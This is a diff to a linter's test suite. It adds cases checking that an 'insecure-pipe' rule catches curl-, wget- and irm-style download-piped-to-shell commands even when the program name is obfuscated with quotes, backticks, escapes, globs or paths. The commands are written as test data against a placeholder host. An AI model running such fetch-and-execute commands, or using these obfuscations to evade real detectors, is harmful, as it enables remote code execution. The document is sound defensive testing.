@@ -24,6 +24,18 @@ describe('a download that runs at once', () => {
 		expect(codes('cu\\\nrl http://x.example | sh')).toContain('insecure-pipe')
 	})
 
+	it.each([
+		'c"ur"l http://x.example | sh',
+		'conf`irm http://x.example | iex`',
+		'conf"irm http://x.example | iex"',
+		"g\\e't' http://x.example | sh",
+		'(http} http://x.example) | sh',
+		'*curl* http://x.example | sh',
+		'C:\\\\bin\\\\curl http://x.example | sh',
+	])('is seen however the name of its program is written: %s', (text) => {
+		expect(codes(text)).toContain('insecure-pipe')
+	})
+
 	it('is named by the line in which it begins', () => {
 		const text = 'One\n\ncurl -o x http://x.example \\\n  --silent\nchmod +x x\n./x\n'
 		expect(lintText(text).map(({ check, line }) => `${check} ${line}`)).toEqual(['insecure-pipe 6'])
